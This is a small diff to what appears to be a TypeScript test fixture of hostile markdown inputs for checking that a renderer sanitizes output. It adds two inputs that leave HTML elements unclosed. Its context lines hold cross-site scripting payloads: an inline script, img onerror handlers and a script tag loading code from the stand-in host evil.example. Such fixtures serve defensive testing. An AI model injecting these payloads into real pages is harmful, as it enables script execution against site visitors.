@@ -1,6 +1,8 @@
 /** Pages that try to run a script, to break out of an attribute or to leave elements open. `pwned` marks a success. */
 export const HOSTILE_MARKDOWN: readonly string[] = [
   '<script>window.pwned = 1</script>',
+  '- <details><summary>a</summary>b\n- c',
+  '> <td>a</td>\n\n- <li>b</li>\n\n> [!NOTE]\n> <dt>c</dt>\n\n[^1]: <tr>d</tr>\n\n[^1]',
   'text <script src="//evil.example/x.js"></script> text',
   '<img src=x onerror="window.pwned = 1">',
   'a <img src=x onerror=window.pwned=1> b',
